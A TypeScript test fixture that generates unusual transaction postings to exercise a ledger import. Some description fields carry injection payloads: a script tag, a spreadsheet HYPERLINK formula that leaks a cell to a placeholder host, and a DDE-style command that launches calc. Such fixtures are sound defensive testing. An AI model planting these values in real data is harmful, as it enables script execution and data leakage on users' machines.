import { dayMs, localDay } from "../dates";
import type { AccountRole, PostingInput } from "./ledger";
import { oddDates } from "./odd-dates";

type Oddity = { amountMinor?: number; isOnlyAuthorised?: boolean; told: Record<string, unknown> };

const rightToLeft = "\u202E";
const usualMinor = -123_400;

/** What Codat's documents allow and few programs expect. An `undefined` is left out of the answer. */
const oddities: readonly Oddity[] = [
  { amountMinor: 123_456, told: { description: "FOUR DECIMALS" } },
  { amountMinor: -1, told: { description: "A HUNDREDTH OF A PENNY" } },
  { amountMinor: 98_765_432_101, told: { description: "NEARLY TEN MILLION" } },
  { isOnlyAuthorised: true, told: { description: "NOT POSTED YET", postedDate: undefined } },
  { told: { description: "NO DATE AT ALL", postedDate: undefined, authorizedDate: undefined } },
  { told: { description: null } },
  { told: { description: undefined, merchantName: null } },
  { told: { description: "" } },
  { told: { description: "<b>bold</b><script>alert('sandbox')</script>" } },
  { told: { description: '=HYPERLINK("http://sandbox.example/?leak="&A1,"Refund")' } },
  { told: { description: "+1" } },
  { told: { description: "-1" } },
  { told: { description: "@SUM(1+1)*cmd|' /C calc'!A0" } },
  { told: { description: "\t=1+1" } },
  { told: { description: 'He said "pay, now";\r\nand on a second line', merchantName: "O'Brien, Sons & Co" } },
  { told: { description: `INVOICE ${rightToLeft}0001 DIAP`, merchantName: `${rightToLeft}knaB` } },
  { told: { description: "☕️ 👩‍👩‍👧 🇬🇧 Ünïcødé 漢字 שלום", merchantName: "🦄" } },
  { told: { description: "FIVE HUNDRED ".repeat(39).slice(0, 500) } },
  { told: { description: "CATEGORY WITHOUT A NAME", transactionCategoryRef: { id: "category-4711" } } },
  { told: { description: "CATEGORY NAMED NULL", transactionCategoryRef: { id: "category-4712", name: null } } },
  { told: { description: "UNKNOWN CODE", code: "NotSupported", transactionCategoryRef: undefined } },
];

/** The odd postings of a history, by day. */
export function oddPostings({ fromDay, toDay }: { fromDay: number; toDay: number }): Map<number, PostingInput[]> {
  const byDay = new Map<number, PostingInput[]>();
  const add = (role: AccountRole, day: number, amountMinor: number, told: Record<string, unknown>) => {
    const posting = { role, day, amountMinor, description: "", merchantName: null, categoryId: "costs", code: "Other" };
    byDay.set(day, [...(byDay.get(day) ?? []), { ...posting, told }]);
  };
  for (const [index, { amountMinor = usualMinor, isOnlyAuthorised, told }] of oddities.entries()) {
    const day = toDay - (index * 3 + 1) * dayMs;
    const lateThatDay = localDay(day).replace("00:00:00", "23:59:59.9999999");
    add("nameless", day, amountMinor, isOnlyAuthorised ? { ...told, authorizedDate: lateThatDay } : told);
  }
  for (const { day, postedDate } of oddDates({ fromDay, toDay }))
    add("nameless", day, usualMinor, { description: `POSTED ${postedDate}`, postedDate, authorizedDate: postedDate });
  for (let day = toDay; day > toDay - 360 * dayMs; day -= 30 * dayMs) {
    add("yen", day, -1_980, { description: "SHINKANSEN" });
    add("dinar", day, 12_345, { description: "GULF TRADING" });
  }
  return byDay;
}
